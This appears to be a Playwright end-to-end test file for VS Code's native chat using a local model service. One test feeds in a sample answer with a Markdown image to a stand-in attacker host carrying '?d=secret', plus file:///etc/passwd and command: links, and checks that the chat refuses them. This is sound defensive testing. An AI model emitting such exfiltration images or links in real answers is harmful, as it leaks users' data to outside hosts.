// VS Code's own chat in code-server with AI features on (docs/testing.md, VS Code's own chat): the service's models in the
// Language Models editor and in the chat's model picker, a plain Ask-mode question answered by svc_llm, and an
// Agent-mode question that makes it call one of VS Code's tools and finish from the result. Screenshots of each
// go to .test-results/native-chat/ (docs/images/ with MAAS_SCREENSHOTS=1); a failure leaves one too.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import { repoRoot } from '../harness/tools';
import { ask, openChat, until, waitForStatus } from './chatView';
import { chatRequests as chatRequestsOf, type LoggedChatRequest } from '../harness/requestLog';
import { openServiceScenario, type ServiceScenario } from './serviceScenario';
import {
  answerChatSetupOfferIfMade,
  chooseMode,
  closeDialog,
  focusNativeInput,
  modelPickerListing,
  nativeChat,
  NATIVE_CHAT_SETTINGS,
  newNativeChat,
  openLanguageModels,
  openNativeChatInAsk,
  screenshots,
  sendNative,
} from './nativeChatView';

const QUESTION = 'How do I compute a moving average in TypeScript?';
const shot = screenshots('native-chat');

/** Two animation frames of the workbench: what the last change laid out is painted before a screenshot. */
async function nextFrames(page: Page): Promise<void> {
  // Page code as source text: this file is compiled without the DOM's types.
  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve())))');
}

/** What the local service reasons when a question asks it to think (service/src/chat/responder.ts). */
const REASONING = 'First pin down the goal, then list the constraints, then pick the simplest plan that works.';

/** The text of a response's thinking section, opened as a user opens it (the folded steps, then the thinking). */
async function thinkingText(response: Locator): Promise<string> {
  // VS Code 1.139 folds everything but the final Markdown under "Completed N steps"; the thinking is one of them. The
  // chat's list scrolls itself (not the page): the wheel over the answer brings the folded steps into view.
  const page = response.page();
  const steps = response.locator('details.completed-response-disclosure').first();
  const summary = steps.locator('summary').first();
  await until(
    async () => {
      const box = await summary.boundingBox();
      if (box !== null && box.y >= 0) return true;
      const answer = await response.boundingBox();
      if (answer !== null) await page.mouse.move(answer.x + answer.width / 2, Math.max(answer.y, 0) + 100);
      await page.mouse.wheel(0, -400);
      return false;
    },
    15_000,
    'the folded steps in view',
  );
  // The chat's list moves under the pointer as it scrolls: the click goes to the element, as a keyboard user's would.
  if ((await summary.getAttribute('aria-expanded')) !== 'true') await summary.dispatchEvent('click');
  const box = response.locator('.chat-thinking-box').first();
  await box.waitFor({ timeout: 10_000 });
  const toggle = box.locator('.chat-used-context-label .monaco-button').first();
  if ((await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.dispatchEvent('click');
  return until(
    async () => {
      const text = (await box.textContent()) ?? '';
      return /First pin down|described the attached image/.test(text) ? text.replace(/^[\s\S]*?(First pin down|svc_vl described)/, '$1').trim() : undefined;
    },
    10_000,
    'the thinking section opened',
  );
}

describe("VS Code's own chat with the service's models", () => {
  let scenario: ServiceScenario;

  before(async () => {
    scenario = await openServiceScenario('native-chat', {
      service: { paceMs: 2 },
      folder: path.join(repoRoot, 'demo', 'workspace'),
      settings: NATIVE_CHAT_SETTINGS,
    });
  });

  afterEach(async (t) => {
    const outcome = t as unknown as { passed?: boolean; name: string };
    if (outcome.passed === false) {
      await scenario.fail(outcome.name);
      // Its text is in the output now: a dialog the failed test left open would fail every test after it as well.
      await closeDialog(scenario.page);
    }
  });

  after(async () => {
    await scenario?.close();
  });

  async function chatRequests(): Promise<LoggedChatRequest[]> {
    return chatRequestsOf(scenario.service.baseUrl);
  }

  it('lists svc_llm and svc_vl in the Language Models editor and svc_llm in the chat picker', async () => {
    const { page } = scenario;
    await openChat(page); // activates the extension, which resolves its models
    // The set-up by hand, as a user who declined MaaS Assistant's offer (test/e2e/nativeChatSetup.e2e.ts accepts it).
    await answerChatSetupOfferIfMade(scenario, 'Not now');
    // On a fresh profile VS Code's chat needs its set-up once: opening the Language Models editor does it.
    const editor = await openLanguageModels(page, 'svc_llm');
    assert.match((await editor.textContent()) ?? '', /svc_vl/);
    await shot(page, 'native-language-models', { x: 0, y: 0, width: 1400, height: 420 });
    await openNativeChatInAsk(page);
    const rows = await modelPickerListing(page, 'svc_llm');
    assert.ok(
      rows.some((row) => /svc_llm.*MaaS/.test(row)),
      rows.join(' | '),
    );
    await shot(page, 'native-model-picker', { x: 700, y: 300, width: 700, height: 600 });
    await page.locator('.action-widget .monaco-list-row', { hasText: 'svc_llm' }).first().click();
  });

  it('answers a plain Ask-mode question with svc_llm, beside the same question in the MaaS view', async () => {
    const { page } = scenario;
    await sendNative(page, QUESTION);
    const request = await until(
      async () => (await chatRequests()).find((r) => r.completed && r.body.messages.some((m) => m.role === 'user')),
      60_000,
      'the question at the service',
    );
    assert.equal(request.body.model, 'svc_llm');
    const response = nativeChat(page).locator('.interactive-response').last();
    await until(async () => ((await response.textContent()) ?? '').includes('In summary'), 60_000, 'the answer in the native chat');
    const view = await openChat(page);
    const turn = await ask(view, QUESTION);
    assert.equal(await waitForStatus(turn, ['done']), 'done');
    await nextFrames(page);
    await shot(page, 'native-side-by-side');
  });

  it("shows svc_llm's reasoning as its thinking, none of it in the answer, and the context meter fills from the service's usage", async () => {
    const { page } = scenario;
    await newNativeChat(page);
    await chooseMode(page, 'Ask');
    const meter = nativeChat(page).locator('.chat-context-usage-widget').first();
    const before = (await chatRequests()).length;
    await sendNative(page, 'Please think it over first: what is a moving average?');
    await until(async () => (await chatRequests()).slice(before).find((r) => r.completed), 60_000, 'the question at the service');
    const response = nativeChat(page).locator('.interactive-response').last();
    await until(async () => ((await response.textContent()) ?? '').includes('In summary'), 60_000, 'the answer in the native chat');
    const answer = (await response.locator('.chat-markdown-part').allTextContents()).join('\n');
    assert.doesNotMatch(answer, /First pin down the goal|<\/?think>/, 'no reasoning in the answer');
    assert.equal(await thinkingText(response), REASONING);
    const used = await until(
      async () => Number(/(\d+)%/.exec((await meter.getAttribute('aria-label')) ?? '')?.[1] ?? '0'),
      20_000,
      'the context meter above zero',
    );
    assert.ok(used > 0, `context window usage ${used}%`);
    await shot(page, 'native-thinking', { x: 700, y: 0, width: 700, height: 900 });
  });

  it('answers about an image pasted into the question with svc_llm picked: svc_vl describes it first', async () => {
    const { page } = scenario;
    await newNativeChat(page);
    await chooseMode(page, 'Ask');
    await focusNativeInput(page);
    // A real paste: the image on the browser's clipboard, then Ctrl+V in the chat's input.
    const image = readFileSync(path.join(repoRoot, 'demo', 'workspace', 'images', 'moving-average.png')).toString('base64');
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(page.url()).origin });
    await page.evaluate(async (base64) => {
      // In the page: its clipboard API (the test's TypeScript has no DOM types).
      const web = globalThis as unknown as {
        navigator: { clipboard: { write(items: unknown[]): Promise<void> } };
        ClipboardItem: new (items: Record<string, Blob>) => unknown;
      };
      const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
      await web.navigator.clipboard.write([new web.ClipboardItem({ 'image/png': new Blob([bytes], { type: 'image/png' }) })]);
    }, image);
    await page.keyboard.press('Control+V');
    await nativeChat(page).locator('.chat-attached-context .chat-attached-context-attachment').first().waitFor({ timeout: 15_000 });
    const before = (await chatRequests()).length;
    await page.keyboard.type('What does this chart show?');
    await page.keyboard.press('Enter');
    const requests = await until(
      async () => {
        const done = (await chatRequests()).slice(before).filter((r) => r.completed);
        return done.some((r) => r.body.model === 'svc_llm') ? done : undefined;
      },
      60_000,
      'the description and the question at the service',
    );
    const images = (r: LoggedChatRequest): number =>
      r.body.messages.flatMap((m) => (Array.isArray(m.content) ? m.content : [])).filter((p) => p.type === 'image_url').length;
    assert.deepEqual(
      requests.map((r) => [r.body.model, images(r)]),
      [
        ['svc_vl', 1],
        ['svc_llm', 0],
      ],
    );
    const response = nativeChat(page).locator('.interactive-response').last();
    await until(async () => ((await response.textContent()) ?? '').includes('In summary'), 60_000, 'the answer in the native chat');
    assert.match(await thinkingText(response), /svc_vl described the attached image for svc_llm:[\s\S]*Image 1: PNG, \d+×\d+ pixels/);
    await shot(page, 'native-image-answer', { x: 700, y: 0, width: 700, height: 900 });
  });

  it('@maas /kb answers from the knowledge base with the passages as references', async () => {
    const { page } = scenario;
    await newNativeChat(page);
    await chooseMode(page, 'Ask');
    const before = (await chatRequests()).length;
    await sendNative(page, '@maas /kb Where is the API key stored?');
    const request = await until(
      async () => (await chatRequests()).slice(before).find((r) => r.completed),
      60_000,
      'the knowledge-base question at the service',
    );
    assert.deepEqual(
      request.body.tools?.map((t) => t.type),
      ['retrieval'],
    );
    const response = nativeChat(page).locator('.interactive-response').last();
    // The mode badge comes last: the answer is complete when it shows.
    await until(async () => /According to the knowledge base[\s\S]*Divergent/.test((await response.textContent()) ?? ''), 60_000, 'the whole cited answer');
    // The references (one per cited passage) sit in the answer's folded list of steps and used references.
    const text = (await response.textContent()) ?? '';
    assert.match(text, /Used 1 reference/);
    assert.match(text, /secret storage\. \[1\]/);
    await shot(page, 'native-maas-kb', { x: 700, y: 0, width: 700, height: 900 });
  });

  it("shows @maas's and svc_llm's answers by the chat's link rule: no image (not even after a `!`), refused links as text, destinations beside", async () => {
    const { page } = scenario;
    const answer =
      'Look: ![chart](https://attacker.invalid/c.png?d=secret), [the docs](https://docs.example/a), [a file](file:///etc/passwd) ' +
      'and [a command](command:workbench.action.terminal.new). Wow!![again](https://attacker.invalid/again.png) ' +
      '`c`!![more](https://attacker.invalid/more.png). Done.';
    for (const question of ['@maas Where are the docs?', 'Where are the docs?']) {
      await newNativeChat(page);
      await chooseMode(page, 'Ask');
      await scenario.api('/_local/next-answer', { body: { text: answer, count: 1 } });
      await sendNative(page, question);
      const response = nativeChat(page).locator('.interactive-response').last();
      await until(async () => /Done\./.test((await response.textContent()) ?? ''), 60_000, `the answer to "${question}"`);
      assert.match(
        (await response.textContent()) ?? '',
        /Look: chart \(attacker\.invalid\), the docs \(docs\.example\), a file and a command\. Wow!again \(attacker\.invalid\) c!more \(attacker\.invalid\)\. Done\./,
        `the destinations beside the texts, the refused links as text, in the answer to "${question}"`,
      );
      assert.equal(await response.locator('img').count(), 0, `no image in the answer to "${question}"`);
      const links = await response
        .locator('.rendered-markdown a')
        .evaluateAll((anchors) => anchors.map((a) => [a.textContent, a.getAttribute('data-href') ?? a.getAttribute('href')]));
      for (const [text, href] of links) assert.doesNotMatch(href ?? '', /^(file|command|vscode|javascript):/i, `${text} in the answer to "${question}"`);
      // @maas's Markdown is rendered as written; Copilot, which shows the provider's answers, drops their links itself.
      if (question.startsWith('@maas'))
        assert.deepEqual(links, [
          ['chart (attacker.invalid)', 'https://attacker.invalid/c.png?d=secret'],
          ['the docs (docs.example)', 'https://docs.example/a'],
          ['again (attacker.invalid)', 'https://attacker.invalid/again.png'],
          ['more (attacker.invalid)', 'https://attacker.invalid/more.png'],
        ]);
    }
  });

  it('in Agent mode, calls one of the tools VS Code offers and finishes from its result', async () => {
    const { page } = scenario;
    const offered = (await chatRequests()).flatMap((r) => r.body.tools ?? []).map((t) => (t.type === 'function' ? t.function.name : ''));
    // A read-only tool that needs no confirmation: the listing of the workspace folder.
    const tool = offered.find((name) => /list_?dir|listDirectory/i.test(name)) ?? offered.find((name) => /read_?file/i.test(name));
    assert.ok(tool, `a listing or reading tool among ${offered.join(', ')}`);
    await newNativeChat(page);
    await chooseMode(page, 'Agent');
    const before = (await chatRequests()).length;
    await sendNative(page, `Please call ${tool} on the workspace folder.`);
    const results = await until(
      async () => (await chatRequests()).slice(before).find((r) => r.completed && r.body.messages.some((m) => m.role === 'tool')),
      90_000,
      'a request carrying the tool result',
    );
    assert.equal(results.body.model, 'svc_llm');
    const response = nativeChat(page).locator('.interactive-response').last();
    await until(async () => ((await response.textContent()) ?? '').includes(`The tool ${tool} returned`), 60_000, 'the final answer from the tool result');
    await shot(page, 'native-agent-tool', { x: 700, y: 0, width: 700, height: 900 });
  });
});
